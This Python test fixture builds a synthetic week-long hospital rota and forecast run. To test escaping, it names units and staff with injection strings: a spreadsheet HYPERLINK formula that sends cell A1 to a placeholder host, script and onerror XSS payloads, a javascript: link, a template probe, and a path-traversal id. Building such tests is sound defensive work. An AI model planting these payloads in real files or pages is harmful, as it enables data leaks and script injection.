"""A run folder as a plan leaves it: 3 units, 14 people, the week in which the clock goes back, and awkward names."""

from __future__ import annotations

import math
from collections.abc import Mapping
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from statistics import NormalDist
from types import MappingProxyType

import pyarrow as pa

from data.calendar import local_instant, local_midnight
from data.forecast import QUANTILE_LEVELS
from data.run_tables import RUN_TABLES
from data.runs import RunRecord, new_run, write_run

ZONE = "Europe/London"
FIRST_DAY = date(2026, 10, 19)
DAYS = tuple(FIRST_DAY + timedelta(days=n) for n in range(7))
LONG_NAME = "Intensive Care / High Dependency & [B]ay"
UNITS = (
    ("ICU", LONG_NAME, "critical_care", 12),
    ("W1", '=HYPERLINK("http://x.invalid","Ward 1")', "ward", 24),
    ("NA", "Notaufnahme Süd", "emergency", 16),
)
SHIFTS = (
    ("E", "Early", "07:00", "15:00", False, "#f2c14e", 450),
    ("L", "Late", "14:30", "22:30", False, "#7fb7be", 450),
    ("N", "Night", "22:00", "07:30", True, "#33436b", 540),
)
PEOPLE = (
    ("0017", "[red]", "ICU", "RN"),
    ("S2", '=HYPERLINK("http://x.invalid/?"&A1,"rota")', "ICU", "RN"),
    ("S3", "</script><script>alert(1)</script>", "ICU", "RN"),
    ("S4", "Jürgen Müßig", "ICU", "HCA"),
    ("S5", "[/ICU]", "ICU", "HCA"),
    ("-6", "-1+1", "W1", "RN"),
    ("s2", 'O\'Brien "Ann" & Co', "W1", "RN"),
    ("../S8", "{{7*7}}", "W1", "RN"),
    ("CON", "<img src=x onerror=alert(1)>", "W1", "HCA"),
    ("S10", "[x](javascript:alert(3))", "W1", "HCA"),
    ("S11", "＝1+1", "NA", "RN"),
    ("@12", "+441632960000", "NA", "RN"),
    ("S13", ":warning: 'tis", "NA", "RN"),
    ("S14", "Bank Only", "NA", "HCA"),
)
SHIFT_MINUTES = {"E": (7 * 60, 15 * 60), "L": (14 * 60 + 30, 22 * 60 + 30), "N": (22 * 60, 31 * 60 + 30)}
_NORMAL = NormalDist()


def write_sample_run(
    runs_folder: Path,
    run_id: str = "2026-W43-baseline-0123456789",
    tables: Mapping[str, list[dict[str, object]]] | None = MappingProxyType({}),
    **changes: object,
) -> Path:
    """Write the sample run and return its folder.

    `tables` replaces the rows of single tables (None: no rows in any), `changes` replace fields of the record.
    """
    record = RunRecord.model_validate(_record(run_id) | changes)
    schemas = {schema.name: schema for schema in RUN_TABLES}
    given = {} if tables is None else {name: schemas[name].table(rows) for name, rows in tables.items()}
    with new_run(runs_folder, run_id) as draft:
        write_run(draft, record, {} if tables is None else sample_tables() | given)
    return runs_folder / run_id


def sample_tables() -> dict[str, pa.Table]:
    """Every table of the run but `changes` of a scenario, which a baseline leaves empty."""
    rows = {
        "units": [
            {"unit_id": u, "name": n, "site_id": "MAIN", "kind": k, "beds_staffed": b} for u, n, k, b in UNITS
        ],
        "shifts": [
            {"shift_id": s, "name": n, "start": a, "end": b, "is_night": x, "colour": c, "paid_minutes": p}
            for s, n, a, b, x, c, p in SHIFTS
        ],
        "roster": _roster(),
        "people": _people(_roster()),
        "absences": [
            {"staff_id": "S4", "date": DAYS[0], "kind": "annual_leave"},
            {"staff_id": "S4", "date": DAYS[1], "kind": "annual_leave"},
            {"staff_id": "S10", "date": DAYS[4], "kind": "sickness"},
        ],
        "requests": [
            {"staff_id": "0017", "date": DAYS[0], "wish": "day_off", "shift_id": None, "granted": False},
            {"staff_id": "S2", "date": DAYS[2], "wish": "want", "shift_id": "L", "granted": True},
        ],
        "ledger": [
            {
                "staff_id": s,
                "kind": kind,
                "n_past_days": 84,
                "wte": 1.0,
                "n_past": past,
                "n_planned": new,
                "fair": 10.5,
            }
            for s, past, new in (("S2", 9, 0), ("S3", 10, 2))
            for kind in ("nights", "weekends", "holidays", "late_changes", "refused_wishes")
        ],
        "coverage": _coverage(),
        "requirements": _requirements(),
        "breaches": [
            {
                "rule": "weekends",
                "title": "Weekends off",
                "source": "trust policy",
                "staff_id": "S3",
                "first_date": DAYS[5],
                "amount": 1,
                "unit": "weekends",
                "is_hard": False,
                "cost_pence": 12000,
                "message": "S3 works 3 weekends in 4, one above the limit of 2",
            }
        ],
        "costs": [
            {"kind": "coverage", "unit_id": "ICU", "pence": 1_845_000},
            {"kind": "coverage", "unit_id": "W1", "pence": 402_000},
            {"kind": "agency", "unit_id": "NA", "pence": 93_600},
            {"kind": "weekends", "unit_id": "ICU", "pence": 12_000},
        ],
        "changes": [
            {"staff_id": "S2", "date": DAYS[2], "before": "ICU E", "after": "ICU L"},
            {"staff_id": "S11", "date": DAYS[3], "before": None, "after": "NA N"},
        ],
        "occupancy": _occupancy(),
        "forecast_peaks": [
            {"unit_id": unit, "first_day": DAYS[0], "n_days": 7, "quantile": level, "value": value}
            for unit, p50, p90 in ((UNITS[0][0], 21.0, 26.0), ("", 47.0, 53.0))
            for level, value in ((0.5, p50), (0.9, p90))
        ],
        "history": _history(),
        "forecast": _forecast(),
        "forecast_series": _series(),
        "equipment": _equipment(),
        "equipment_moves": [
            {
                "date": DAYS[1],
                "type_id": "infusion_pump",
                "from_unit_id": "POOL",
                "to_unit_id": "ICU",
                "n_devices": 4,
                "departs": datetime(2026, 10, 20, 7, 0, tzinfo=UTC),
                "ready": datetime(2026, 10, 20, 7, 45, tzinfo=UTC),
                "asset_ids": "P1 P2 P3 P4",
                "minutes": 45,
                "cost_pence": 6000,
            }
        ],
        "equipment_rentals": [
            {
                "type_id": "ventilator",
                "unit_id": "ICU",
                "first_day": DAYS[2],
                "last_day": DAYS[6],
                "n_devices": 2,
                "paid_days": 14,
                "used_days": 6.2,
                "cost_pence": 90_000,
            }
        ],
        "equipment_services": [
            {
                "asset_id": "V7",
                "type_id": "ventilator",
                "unit_id": "ICU",
                "first_day": DAYS[1],
                "last_day": DAYS[2],
                "due_day": DAYS[4],
                "days_late": 0,
            }
        ],
        "equipment_types": [
            {
                "type_id": "ventilator",
                "name": "Ventilator",
                "sharing": "proportional",
                "n_devices": 12,
                "n_lent": 0,
                "expected_short": 5.6,
                "cost_pence": 1_490_000,
                "status": "optimal",
                "one_more_pence": 210_000,
            }
        ],
        "decisions": [
            {"rank": 1, "topic": "staffing", "unit_id": "ICU", "text": "Open 3 RN nights to the bank today?"},
            {"rank": 2, "topic": "beds", "unit_id": "W1", "text": "Hold 2 elective admissions on Thu?"},
            {"rank": 3, "topic": "data", "unit_id": None, "text": "Census of <b>Sunday</b> is missing."},
        ],
    }
    return {schema.name: schema.table(rows.get(schema.name, [])) for schema in RUN_TABLES}


def _home_shift(person: int, day: int) -> str | None:
    """A pattern of 5 on and 2 off that starts on another day for each person."""
    phase = (day + 2 * person) % 7
    return None if phase >= 5 else ("E", "L", "N")[(person + day // 4) % 3]


def _roster() -> list[dict[str, object]]:
    rows = []
    for number, (staff_id, _, unit_id, skill) in enumerate(PEOPLE):
        for n, day in enumerate(DAYS):
            shift = _home_shift(number, n)
            if shift is None or (staff_id, n) in {("S4", 0), ("S4", 1), ("S10", 4)}:
                continue
            floats = staff_id == "S5" and n == 3
            source = "float" if floats else "overtime" if staff_id == "S2" and n == 6 else "contract"
            rows.append(_assignment(staff_id, "W1" if floats else unit_id, skill, shift, day, source))
    rows.append(_assignment("agency-1", "NA", "RN", "N", DAYS[5], "agency"))
    rows.append(_assignment("bank-1", "ICU", "RN", "E", DAYS[2], "bank"))
    return rows


def _assignment(
    staff_id: str, unit_id: str, skill: str, shift: str, day: date, source: str
) -> dict[str, object]:
    start, end = (local_instant(day, minute, ZONE) for minute in SHIFT_MINUTES[shift])
    paid = int((end - start).total_seconds() // 60) - 30
    return {
        "staff_id": staff_id,
        "unit_id": unit_id,
        "skill_id": skill,
        "shift_id": shift,
        "date": day,
        "start": start,
        "end": end,
        "paid_minutes": paid,
        "source": source,
    }


def _people(roster: list[dict[str, object]]) -> list[dict[str, object]]:
    rows = []
    for staff_id, name, unit_id, skill in PEOPLE:
        own = [row for row in roster if row["staff_id"] == staff_id]
        rows.append(
            {
                "staff_id": staff_id,
                "name": name,
                "unit_id": unit_id,
                "skill_id": skill,
                "contract_minutes": None if staff_id == "S14" else 2250,
                "paid_minutes": sum(int(str(row["paid_minutes"])) for row in own),
                "credited_minutes": {"S4": 900, "S10": 450}.get(staff_id, 0),
                "n_nights": sum(row["shift_id"] == "N" for row in own),
                "n_weekends": int(any(row["date"] in DAYS[5:] for row in own)),
            }
        )
    return rows


def _coverage() -> list[dict[str, object]]:
    roster, rows = _roster(), []
    for unit_id, *_ in UNITS:
        for day in DAYS:
            for shift in SHIFT_MINUTES:
                for skill in ("RN", "HCA"):
                    there = [
                        row["source"]
                        for row in roster
                        if (row["unit_id"], row["date"], row["shift_id"], row["skill_id"])
                        == (unit_id, day, shift, skill)
                    ]
                    required = 1
                    bank, agency = there.count("bank"), there.count("agency")
                    short = max(required - len(there), 0)
                    rows.append(
                        {
                            "unit_id": unit_id,
                            "date": day,
                            "shift_id": shift,
                            "skill_id": skill,
                            "required": required,
                            "own": len(there) - bank - agency,
                            "bank": bank,
                            "agency": agency,
                            "open": short,
                            "expected_shortage": short + 0.1,
                            "cost_pence": 30_000 * short,
                        }
                    )
    return rows


def _requirements() -> list[dict[str, object]]:
    return [
        {key: row[key] for key in ("unit_id", "date", "shift_id", "skill_id", "required")}
        | {"p10": 1, "p50": 1, "p90": 2, "minimum": 1, "shortage_pence": 30_000, "census_p50": 10.0}
        for row in _coverage()
    ]


def _census(beds: int, hour: float) -> float:
    return beds * (0.88 + 0.06 * math.sin(hour / 24 * math.tau - 2) + 0.04 * math.sin(hour / 168 * math.tau))


def _occupancy() -> list[dict[str, object]]:
    rows = []
    for unit_id, _, _, beds in UNITS:
        for n, day in enumerate(DAYS):
            middle = _census(beds, n * 24 + 14)
            spread = beds * 0.03 * math.sqrt(n + 1)
            rows.append(
                {
                    "unit_id": unit_id,
                    "date": day,
                    "beds_staffed": beds,
                    "p10": middle - 1.28 * spread,
                    "p50": middle,
                    "p90": middle + 1.28 * spread,
                    "chance_full": 1 - NormalDist(middle, spread).cdf(beds),
                }
            )
    return rows


def _history() -> list[dict[str, object]]:
    rows = []
    for unit_id, _, _, beds in UNITS:
        for n in range(-28, 0):
            at = local_midnight(FIRST_DAY + timedelta(days=n), ZONE)
            for measure, value in (
                ("occupied_beds", round(_census(beds, n * 24))),
                ("admissions", None if n == -9 else float(beds // 3 + (n * 7) % 5)),
            ):
                rows.append(
                    {"unit_id": unit_id, "measure": measure, "item_id": "", "time": at, "value": value}
                )
    return rows


def _quantiles(
    unit_id: str, measure: str, at: datetime, step: int, mean: float, sd: float
) -> list[dict[str, object]]:
    return [
        {
            "unit_id": unit_id,
            "measure": measure,
            "item_id": "",
            "time": at,
            "step_minutes": step,
            "quantile": level,
            "value": max(mean + sd * _NORMAL.inv_cdf(level), 0.0),
        }
        for level in QUANTILE_LEVELS
    ]


def _forecast() -> list[dict[str, object]]:
    rows = []
    start, end = local_midnight(FIRST_DAY, ZONE), local_midnight(DAYS[-1] + timedelta(days=1), ZONE)
    n_hours = int((end - start).total_seconds() // 3600)
    for unit_id, _, _, beds in UNITS:
        for hour in range(n_hours):
            at = start + timedelta(hours=hour)
            spread = beds * 0.03 * math.sqrt(hour / 24 + 0.5)
            rows += _quantiles(unit_id, "occupied_beds", at, 60, _census(beds, hour), spread)
        for n, day in enumerate(DAYS):
            mean = beds // 3 + 2 + (n % 3)
            rows += _quantiles(unit_id, "admissions", local_midnight(day, ZONE), 1440, mean, math.sqrt(mean))
    return rows


def _series() -> list[dict[str, object]]:
    return [
        {
            "unit_id": unit_id,
            "measure": measure,
            "item_id": "",
            "forecaster": "ets" if measure == "admissions" else "census_from_stays",
            "reason": "lowest weighted interval score of 3 over 4 past weeks (2.1 against 2.4 and 2.6)",
            "fallback": "prophet did not converge" if unit_id == "W1" and measure == "admissions" else None,
            "n_history_days": 1095,
            "mase": 0.82,
            "wis": 2.1,
            "coverage_80": 0.79,
        }
        for unit_id, *_ in UNITS
        for measure in ("admissions", "occupied_beds")
    ]


def _equipment() -> list[dict[str, object]]:
    return [
        {
            "unit_id": unit_id,
            "date": day,
            "type_id": kind,
            "available": 10 if kind == "infusion_pump" else 6,
            "rented": 2 if (kind, unit_id) == ("ventilator", "ICU") and n >= 2 else 0,
            "stand_ins": 0,
            "demand_p50": 8.0,
            "demand_p90": 11.0 if kind == "infusion_pump" else 7.0,
            "expected_short": 0.4,
            "chance_short": 0.3,
            "short": 1 if (unit_id, kind, n) == ("W1", "infusion_pump", 3) else 0,
        }
        for unit_id in ("ICU", "W1", "POOL")
        for n, day in enumerate(DAYS)
        for kind in ("infusion_pump", "ventilator")
    ]


def _record(run_id: str) -> dict[str, object]:
    n_open = sum(int(str(row["open"])) for row in _coverage())
    return {
        "run_id": run_id,
        "created": datetime(2026, 10, 16, 9, 30, tzinfo=UTC).isoformat(),
        "wardwise_version": "0.1.0",
        "python_version": "3.11.9",
        "library_versions": {"ortools": "9.15.6755"},
        "hospital": "St. Example's <i>Hospital</i>",
        "currency": "GBP",
        "zone": ZONE,
        "week": "2026-W43",
        "first_day": FIRST_DAY.isoformat(),
        "n_days": 7,
        "cutoff": local_midnight(FIRST_DAY, ZONE).isoformat(),
        "scenario": "baseline",
        "scenario_files": {},
        "configuration_sha256": "ab" * 32,
        "snapshot_ids": {"stays": "stays-0003"},
        "seed": 1,
        "reproducible": True,
        "n_workers": 2,
        "time_limit_seconds": 60.0,
        "gap_limit": 0.01,
        "status": "feasible",
        "termination": "gap",
        "engine": "cpsat",
        "objective_pence": 2_352_600,
        "bound_pence": 2_335_000.0,
        "gap": 0.0075,
        "seconds": {"forecast": 12.1, "roster": 31.5},
        "kpis": {
            "fill_rate_by_skill": {"RN": 0.62, "HCA": 0.41},
            "open_shifts": n_open,
            "overtime_hours": 7.5,
            "bank_hours": 7.5,
            "agency_hours": 10.0,
            "agency_cost_pence": 93_600,
            "occupancy_p50": 46.2,
            "occupancy_p90": 49.9,
            "beds_staffed": 52,
            "equipment_days_short": 16.8,
        },
        "notes": [
            {
                "severity": "warning",
                "topic": "forecast",
                "text": "[W1] admissions: prophet failed, ets took over",
            },
            {"severity": "info", "topic": "data", "text": "stays end on Sun 18 Oct 2026"},
        ],
        "holidays": {"2026-10-21": "Founders' Day"},
    }
